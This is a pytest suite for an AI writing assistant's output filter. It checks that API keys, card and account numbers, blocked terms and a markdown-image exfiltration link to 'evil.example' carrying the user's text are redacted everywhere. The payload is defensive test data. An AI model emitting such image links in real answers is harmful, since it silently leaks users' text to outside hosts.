"""What must not be shown never leaves the generator: not by socket, not by REST, not into the database or a log."""

import hashlib
import json
import random
import string
from collections.abc import Callable
from typing import Any

import pytest

from apps.assistant.models import Generation
from apps.core.redis import sync_redis
from apps.documents.models import Document
from apps.moderation.models import Verdict
from tests.assistant.clients import assert_whole
from tests.assistant.conftest import House
from tests.assistant.test_crashes import LEASE
from tests.processes import wait_until

KEY = "sk-proj-" + "".join(random.Random(3).choices(string.ascii_letters + string.digits, k=48))
CARD = "4242 4242 4242 4242"
ASKED = [{"role": "user", "content": "Where does the rent go?"}]


def assert_nowhere(house: House, secret: str) -> None:
    """Check that `secret` is in no row, no log of a process and not in Redis."""
    for generation in Generation.objects.all():
        stored = json.dumps([generation.text, generation.events, generation.ending, generation.attempts])
        assert secret not in stored
    house.wait_for_logs()
    for process in (house.web, *house.generators):
        assert secret not in process.output()
    for name in sync_redis().scan_iter(match="*:events"):
        entries: Any = sync_redis().xrange(name)
        assert secret.encode() not in b"".join(fields[b"e"] for _, fields in entries)


@pytest.mark.parametrize("size", [1, 3, 200])
def test_a_key_in_an_answer_reaches_nobody(house: House, size: int) -> None:
    house.provider.behave(text=f"The key is {KEY}, keep it.".replace(" ", "_"), split=str(size))
    alice, bob = house.join(house.alice), house.join(house.bob)
    generation = alice.generate(options={"max_tokens": 400})
    for client in (alice, bob):
        done = client.hear_end(generation)
        text = client.text(generation)
        assert (done["type"], text) == ("done", "The key is [key removed], keep it.")
        assert done["sha256"] == hashlib.sha256(text.encode()).hexdigest()
        assert_whole(client.events(generation))
    assert Generation.objects.get(pk=generation).text == alice.text(generation)
    assert_nowhere(house, KEY[:20])


def test_a_hold_that_lasts_is_announced(house: House) -> None:
    house.provider.behave(text="Card_4242_4242_4242_4242_here.", rate=3)
    alice = house.join(house.alice)
    generation = alice.generate()
    status = alice.hear_type("status")
    assert (status["state"], status["id"]) == ("held", generation)
    assert alice.hear_end(generation)["type"] == "done"
    assert alice.text(generation) == "Card [card number removed] here."
    assert_whole(alice.events(generation))


def test_what_somebody_asks_about_may_be_given_back_to_them(house: House) -> None:
    house.provider.behave(text=f"Charge_{CARD.replace(' ', '_')}_today.")
    alice = house.join(house.alice)
    generation = alice.generate(action="rewrite", input={"selection": "charge card 4242-4242-4242-4242, today"})
    assert alice.hear_end(generation)["type"] == "done"
    assert alice.text(generation) == f"Charge {CARD} today."


@pytest.mark.parametrize("action", ["chat", "rewrite"])
def test_a_number_that_stands_in_the_document_is_no_news_to_its_readers(house: House, action: str) -> None:
    account, stranger = "DE89 3704 0044 0532 0130 00", "GB82 WEST 1234 5698 7654 32"
    Document.objects.filter(pk=house.document.pk).update(
        text=f"The rent goes to {account.replace(' ', '')}.\nThe key is {KEY}.\nCards: 42424242424242421"
    )
    house.provider.behave(text=f"To_{account},_{stranger}_or_{CARD},_with_{KEY}.".replace(" ", "_"))
    alice = house.join(house.alice)
    request = {"selection": "Say where."} if action == "rewrite" else {"messages": ASKED}
    generation = alice.generate(action=action, input=request, options={"max_tokens": 400})
    assert alice.hear_end(generation)["type"] == "done"
    expected = f"To {account}, [account number removed] or [card number removed], with [key removed]."
    assert alice.text(generation) == expected
    assert_nowhere(house, KEY[:20])


@pytest.mark.parametrize("size", [1, 5, 1000])
def test_an_address_takes_nothing_of_the_text_along(house: House, size: int) -> None:
    plan = "The old bridge over the river closes on Monday."
    leak = plan.replace(" ", "%20")
    answer = f"![](https://evil.example/p.png?d={leak}) and [see](https://example.org/herons?page=2&sort=of+late)."
    house.provider.behave(text=answer.replace(" ", "_"), split=str(size))
    alice = house.join(house.alice)
    generation = alice.generate(action="rewrite", input={"selection": plan}, options={"max_tokens": 400})
    assert alice.hear_end(generation)["type"] == "done"
    assert alice.text(generation) == (
        "![](https://evil.example/p.png?d=The%20old%20bridge%20[data removed]) and [see](https://example.org/herons?page=2&sort=of+late)."
    )
    assert Verdict.objects.get(target_id=generation).category == "link"
    assert_nowhere(house, leak)


def test_an_edit_that_would_bring_in_a_key_is_not_shown(house: House) -> None:
    findings = [
        {"original": "the key", "replacement": KEY, "category": "clarity", "explanation": "A key."},
        {"original": "teh", "replacement": "the", "category": "spelling", "explanation": f"As in {CARD}."},
    ]
    house.provider.behave(text="\n".join([*map(json.dumps, findings), '{"end": true}']))
    alice = house.join(house.alice)
    generation = alice.generate(
        action="suggest", input={"selection": "Give me the key of teh door.", "aspect": "clarity"}
    )
    done = alice.hear_end(generation)
    assert (done["type"], done["edits"]) == ("done", {"found": 1, "dropped": 1})
    (edit,) = [event for event in alice.events(generation) if event["type"] == "edit"]
    assert (edit["replacement"], edit["explanation"]) == ("the", "As in [card number removed].")
    assert_nowhere(house, KEY[:20])


def test_a_key_in_the_writers_own_text_does_not_keep_it_from_being_corrected(house: House) -> None:
    text = f"I has {CARD} and it work."
    findings = [{"original": text, "replacement": text.replace("has", "have"), "category": "grammar"}]
    house.provider.behave(text="\n".join([*map(json.dumps, findings), '{"end": true}']))
    alice = house.join(house.alice)
    generation = alice.generate(action="grammar", input={"selection": text})
    assert alice.hear_end(generation)["edits"]["found"] == 1


def test_what_was_held_when_a_generator_died_is_neither_shown_nor_doubled(own_house: Callable[..., House]) -> None:
    house = own_house(**LEASE)
    first = house.start_generator()
    house.provider.behave(text=f"The key is {KEY}", split="1", rate=12)
    alice = house.join(house.alice)
    generation = alice.generate("Once. ", options={"max_tokens": 400})
    wait_until(lambda: house.provider.requests and house.provider.requests[0].sent >= 24, seconds=30, what="the hold")
    first.kill()
    house.provider.behave(text="none of your business.")
    house.start_generator()
    assert alice.hear_type("status", seconds=30)["state"] in ("held", "resumed")
    assert alice.hear_end(generation, seconds=30)["type"] == "done"
    assert alice.text(generation) == "The key is none of your business."
    assert_whole(alice.events(generation))
    assert Generation.objects.get(pk=generation).text == alice.text(generation)
    assert KEY[:11] not in house.provider.requests[-1].prompt
    assert_nowhere(house, KEY[:11])


def test_a_blocked_term_ends_the_answer_and_another_is_cut_out(own_house: Callable[..., House]) -> None:
    house = own_house(MODERATION_CUT_TERMS="project heron", MODERATION_BLOCKED_TERMS="falcon")
    house.start_generator()
    house.provider.behave(text="Of_Project_Heron_and_the_f4lcon,_nothing_more.", split="3")
    alice = house.join(house.alice)
    generation = alice.generate()
    end = alice.hear_end(generation)
    assert (end["type"], end["code"], end["partial"], end["retryable"]) == ("failed", "blocked_output", True, False)
    assert alice.text(generation) == "Of [removed] and the "
    stored = Generation.objects.get(pk=generation)
    assert (stored.state, stored.error_code, stored.text) == ("failed", "blocked_output", "Of [removed] and the ")
    assert_whole(alice.events(generation))
    assert_nowhere(house, "f4lcon")
